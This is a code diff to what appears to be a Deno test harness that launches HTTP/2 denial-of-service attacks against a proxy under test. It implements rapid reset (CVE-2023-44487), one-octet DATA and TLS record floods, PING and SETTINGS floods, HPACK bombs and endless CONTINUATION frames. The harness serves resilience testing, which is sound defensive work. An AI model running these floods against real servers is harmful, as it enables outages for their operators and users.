@@ -8,7 +8,7 @@ import { once } from "node:events";
 import { connect, type TLSSocket } from "node:tls";
 import { fileURLToPath } from "node:url";
 import { CLIENT_PREFACE, FrameFlag, FrameType, HpackEncoder } from "../../lib/h2/mod.ts";
-import { frame, u32 } from "./h2_raw.ts";
+import { frame, setting, u32 } from "./h2_raw.ts";
 import { encodeBlock } from "./hpack.ts";
 import { ROOT } from "./module_graph.ts";
 
@@ -18,8 +18,16 @@ export interface AttackTarget {
   readonly host: string;
 }
 
-/** Does the attack until `stop` says so. Answers how often it was done. */
-export type Attack = (target: AttackTarget, stop: () => boolean) => Promise<number>;
+/** The time an attack has, and what it has done. */
+export interface Clock {
+  /** It is over. */
+  stopped: boolean;
+  /** How often the attack was done. */
+  done: number;
+}
+
+/** Does the attack until the clock has stopped. */
+export type Attack = (target: AttackTarget, clock: Clock) => Promise<void>;
 
 /** One connection of an attacker: no library, no flow control, no shame. */
 class Attacker implements AsyncDisposable {
@@ -27,10 +35,12 @@ class Attacker implements AsyncDisposable {
   readonly host: string;
   readonly #encoder = new HpackEncoder();
   nextId = 1;
+  #wake: () => void = () => {};
 
   private constructor(socket: TLSSocket, host: string) {
     this.socket = socket;
     this.host = host;
+    for (const event of ["drain", "close", "end"]) socket.on(event, () => this.#wake());
   }
 
   /** Connects and greets, with these settings. */
@@ -60,7 +70,9 @@ class Attacker implements AsyncDisposable {
   async send(...chunks: Uint8Array[]): Promise<void> {
     if (this.gone) return;
     if (this.socket.write(Buffer.concat(chunks))) return void await turn();
-    await Promise.race([once(this.socket, "drain"), once(this.socket, "close"), pause(500)]);
+    const { promise, resolve } = Promise.withResolvers<void>();
+    this.#wake = resolve;
+    await promise;
   }
 
   /** A request on the next stream. */
@@ -90,30 +102,28 @@ class Attacker implements AsyncDisposable {
 }
 
 /** Repeats `once` on a connection that is opened anew whenever the proxy has closed it. */
-async function repeat(
-  target: AttackTarget,
-  stop: () => boolean,
-  once: (attacker: Attacker) => Promise<number>,
-): Promise<number> {
-  let done = 0;
-  while (!stop()) {
-    await using attacker = await Attacker.open(target);
-    while (!stop() && !attacker.gone) done += await once(attacker);
-  }
-  return done;
+function repeat(once: (attacker: Attacker, clock: Clock) => Promise<number>): Attack {
+  return async (target, clock) => {
+    while (!clock.stopped) {
+      await using attacker = await Attacker.open(target);
+      while (!clock.stopped && !attacker.gone) {
+        const done = await once(attacker, clock);
+        if (!attacker.gone) clock.done += done;
+      }
+    }
+  };
 }
 
 function resets(code: number, path: string): Attack {
-  return (target, stop) =>
-    repeat(target, stop, async (attacker) => {
-      const frames: Uint8Array[] = [];
-      for (let i = 0; i < 50; i++) {
-        frames.push(attacker.request(path));
-        frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(code)));
-      }
-      await attacker.send(...frames);
-      return 50;
-    });
+  return repeat(async (attacker) => {
+    const frames: Uint8Array[] = [];
+    for (let i = 0; i < 50; i++) {
+      frames.push(attacker.request(path));
+      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(code)));
+    }
+    await attacker.send(...frames);
+    return 50;
+  });
 }
 
 /** Each by its name. */
@@ -121,17 +131,97 @@ export const ATTACKS: Readonly<Record<string, Attack>> = {
   "rapid reset (CVE-2023-44487)": resets(8, "/slow"),
   "rapid reset with NO_ERROR": resets(0, "/slow"),
   /** A request that is answered by the proxy itself, for each one that a backend works on. */
-  "rapid reset bought with cheap answers": (target, stop) =>
-    repeat(target, stop, async (attacker) => {
-      const frames: Uint8Array[] = [];
-      for (let i = 0; i < 25; i++) {
-        frames.push(attacker.requestTo("other.test", "/"));
-        frames.push(attacker.request("/slow"));
-        frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(8)));
-      }
-      await attacker.send(...frames);
-      return 25;
-    }),
+  "rapid reset bought with cheap answers": repeat(async (attacker) => {
+    const frames: Uint8Array[] = [];
+    for (let i = 0; i < 25; i++) {
+      frames.push(attacker.requestTo("other.test", "/"));
+      frames.push(attacker.request("/slow"));
+      frames.push(frame(FrameType.rstStream, 0, attacker.nextId - 2, u32(8)));
+    }
+    await attacker.send(...frames);
+    return 25;
+  }),
+  /** An upload in frames of one octet. */
+  "DATA frames of one octet": repeat(async (attacker, clock) => {
+    await attacker.send(attacker.request("/", false));
+    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
+    const many = Buffer.concat(Array.from({ length: 1000 }, () => octet));
+    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
+      await attacker.send(many);
+      clock.done += 1000;
+    }
+    return 0;
+  }),
+  /** Each octet of a request in a TLS record and a TCP segment of its own. */
+  "TLS records of one octet": repeat(async (attacker) => {
+    attacker.socket.setNoDelay(true);
+    for (const octet of attacker.request("/")) await attacker.send(Uint8Array.of(octet));
+    return 1;
+  }),
+  /** A PING for each octet of content. */
+  "PINGs paid with frames of one octet": repeat(async (attacker, clock) => {
+    await attacker.send(attacker.request("/", false));
+    const octet = frame(FrameType.data, 0, attacker.nextId - 2, [1]);
+    const ping = frame(FrameType.ping, 0, 0, new Uint8Array(8));
+    const many = Buffer.concat(Array.from({ length: 500 }, () => [octet, ping]).flat());
+    for (let i = 0; i < 100 && !clock.stopped && !attacker.gone; i++) {
+      await attacker.send(many);
+      clock.done += 500;
+    }
+    return 0;
+  }),
+  "a flood of requests that are answered at once": repeat(async (attacker) => {
+    const more = ["user-agent", "x".repeat(3000)];
+    const requests = Array.from(
+      { length: 200 },
+      () => attacker.requestTo("other.test", "/", true, more),
+    );
+    await attacker.send(...requests);
+    return 200;
+  }),
+  /** Streams whose responses stay where they are, on connections that are kept. */
+  "downloads that nobody reads": async (target, clock) => {
+    const attackers = await Promise.all(
+      Array.from({ length: 8 }, async () => {
+        const attacker = await Attacker.open(target);
+        const requests = Array.from({ length: 90 }, () => attacker.request("/large"));
+        await attacker.send(...requests);
+        return attacker;
+      }),
+    );
+    clock.done = attackers.length;
+    while (!clock.stopped) await pause(50);
+    for (const attacker of attackers) await attacker[Symbol.asyncDispose]();
+  },
+  "window updates, settings and priorities": repeat(async (attacker) => {
+    await attacker.send(attacker.request("/slow"));
+    const id = attacker.nextId - 2;
+    const flood = [
+      frame(FrameType.windowUpdate, 0, id, u32(1)),
+      frame(FrameType.priority, 0, id, [0, 0, 0, 0, 1]),
+      frame(FrameType.settings, 0, 0, setting(4, 65535)),
+      frame(FrameType.settings, 0, 0, setting(1, 0)),
+      frame(0x42, 0, 0, [1]),
+    ];
+    await attacker.send(...Array.from({ length: 100 }, () => flood).flat());
+    return 500;
+  }),
+  /** 48 MB of header list in 16 KiB, on every stream. */
+  "HPACK bombs": repeat(async (attacker) => {
+    const entry = attacker.request("/", true, ["x", "z".repeat(3900)]);
+    await attacker.send(entry);
+    const bomb = new Uint8Array(16_000).fill(0x80 | 62);
+    const flags = FrameFlag.endHeaders | FrameFlag.endStream;
+    await attacker.send(frame(FrameType.headers, flags, attacker.nextId, bomb));
+    attacker.nextId += 2;
+    return 1;
+  }),
+  "endless header blocks": repeat(async (attacker) => {
+    await attacker.send(frame(FrameType.headers, FrameFlag.endStream, attacker.nextId, [0x82]));
+    const more = frame(FrameType.continuation, 0, attacker.nextId, new Uint8Array(8000));
+    for (let i = 0; i < 40; i++) await attacker.send(more);
+    return 1;
+  }),
 };
 
 /** An attack that runs in another process. */
@@ -142,8 +232,10 @@ export interface RunningAttack {
 
 /** Starts an attack in a process of its own and waits until it is under way. */
 export async function startAttack(name: string, target: AttackTarget): Promise<RunningAttack> {
-  const child = new Deno.Command(Deno.execPath(), {
+  // An attacker has a machine of its own: what this one has goes to the proxy and to its clients.
+  const child = new Deno.Command("nice", {
     args: [
+      ...["-n", "19", Deno.execPath()],
       ...["run", "--no-check", "--no-prompt", "-A", "--config", `${ROOT}/deno.json`],
       ...[fileURLToPath(import.meta.url), name, String(target.port), target.host],
     ],
@@ -186,14 +278,13 @@ if (import.meta.main) {
   const [name = "", port = "", host = ""] = Deno.args;
   const attack = ATTACKS[name];
   if (attack === undefined) throw new Error(`no attack "${name}"`);
-  let stopped = false;
-  const ended = (async () => {
-    for await (const _ of Deno.stdin.readable);
-    stopped = true;
-  })();
+  const clock = { stopped: false, done: 0 };
   await Deno.stdout.write(new TextEncoder().encode("started\n"));
-  const done = await attack({ port: Number(port), host }, () => stopped);
-  await ended;
-  await Deno.stdout.write(new TextEncoder().encode(`done ${done}\n`));
+  const ended = attack({ port: Number(port), host }, clock);
+  for await (const _ of Deno.stdin.readable);
+  clock.stopped = true;
+  // One that is not read any more does not end by itself.
+  await Promise.race([ended, pause(500)]);
+  await Deno.stdout.write(new TextEncoder().encode(`done ${clock.done}\n`));
   Deno.exit(0);
 }
